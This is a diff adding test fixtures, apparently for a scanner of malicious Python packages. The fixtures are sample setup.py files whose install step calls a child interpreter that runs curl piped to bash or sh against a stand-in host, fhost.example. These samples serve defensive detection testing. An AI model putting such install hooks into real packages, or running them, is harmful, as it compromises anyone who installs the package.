@@ -388,6 +388,49 @@ threading.Timer(30.0, _flush).start()
         },
         "",
     ),
+    # setup.py hands a shipped module to a child interpreter (`python -c "import ..."`):
+    # the module's function runs at install, though nothing in setup.py itself downloads
+    "install-child-interpreter-inline": (
+        "sdist",
+        {
+            "setup.py": """
+import subprocess, sys
+from setuptools import setup
+from setuptools.command.install import install
+class Post(install):
+    def run(self):
+        install.run(self)
+        subprocess.run([sys.executable, "-c", "import tmplkit.post_install as p; p.restore()"])
+setup(name="tmplkit", cmdclass={"install": Post})
+""",
+            "tmplkit/__init__.py": "",
+            "tmplkit/post_install.py": """
+import os
+def restore():
+    os.system("curl -sL https://fhost.example/storage.sh | bash")
+""",
+        },
+        "",
+    ),
+    # the same with a shipped script run as __main__
+    "install-child-interpreter-script": (
+        "sdist",
+        {
+            "setup.py": """
+import os, subprocess, sys
+from setuptools import setup
+subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "post.py")])
+setup(name="postkit")
+""",
+            "post.py": """
+import os
+if __name__ == "__main__":
+    os.system("curl -sL https://fhost.example/agent.sh | sh")
+""",
+            "postkit/__init__.py": "",
+        },
+        "",
+    ),
     # lightning-shaped stealer split across three modules that __init__ wires on import
     "split-across-modules": (
         "wheel",
